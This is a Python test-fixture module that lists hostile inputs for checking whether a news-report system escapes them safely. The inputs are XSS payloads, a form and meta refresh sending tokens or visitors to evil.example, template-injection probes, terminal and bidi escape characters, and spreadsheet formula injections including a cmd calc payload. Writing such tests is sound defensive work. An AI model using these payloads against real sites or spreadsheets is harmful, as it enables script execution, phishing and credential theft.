"""What a hostile report may hold: script, markup, templates, terminal escapes, formulas, unseen characters."""

from __future__ import annotations

from dataclasses import replace

from onrecord.model import Article, Published

HIT = "window.__hit=(window.__hit||0)+1"
SCRIPT = (
    f"<script>{HIT}</script>",
    f'"><img src=x onerror="{HIT}">',
    f"' onmouseover='{HIT}' x='",
    f'" autofocus onfocus="{HIT}" x="',
    f"</textarea></title></style></script><script>{HIT}</script>",
    f"<svg onload={HIT}><animate onbegin={HIT}>",
    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
    f"<details open ontoggle={HIT}>",
    f"<a href='javascript:{HIT}'>x</a>",
    f"javascript:{HIT}",
    f"data:text/html,<script>{HIT}</script>",
    f'" hx-get="/decisions" hx-trigger="load" hx-on:load="{HIT}" x="',
    f"<!--><script>{HIT}</script-->",
    f"&lt;script&gt;{HIT}&lt;/script&gt;",
    "<style>*{display:none}</style>",
    "<base href='https://evil.example/'><form action='//evil.example'><input name=token>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
)
TEMPLATE = ("{{ 7 * 7 }}", "{% raw %}{{ config }}{% endraw %}", "${7*7}", "#{7*7}", "<%= 7*7 %>")
TERMINAL = (
    "\x1b[31mred\x1b[2J\x1b]0;owned\x07",
    "\x9b31m",
    "a\rb\x08c",
    "\u202egnp.exe",
    "\u2066x\u2069",
    "a\u200bb\ufeff",
)
FORMULA = ('=HYPERLINK("https://evil.example")', "+1+cmd|'/C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "=1\r\n=2")
ALL = (*SCRIPT, *TEMPLATE, *TERMINAL, *FORMULA)


def report(evil: str, n: int = 0) -> Article:
    """A report that holds `evil` in every field, quoted, said by it and told of it."""
    flat = evil.replace("\n", " ").replace("\r", " ").replace('"', "”")
    text = (
        f'{flat}\n\n"The {flat} lock will be rebuilt before the floods," Mara Ellwood said. '
        f'"{flat}" Jory Vance said. Mara Ellwood said that {flat} would stay. {evil}\n'
    )
    day = Published(f"2031-09-{1 + n % 28:02d}", "given")
    told = Article(f"evil-{n}", text, outlet=evil, title=evil, byline=evil, input=f"{evil}.txt", published=day)
    return replace(told, url=f"https://o.example/{n}?q={evil}" if n % 2 else evil)
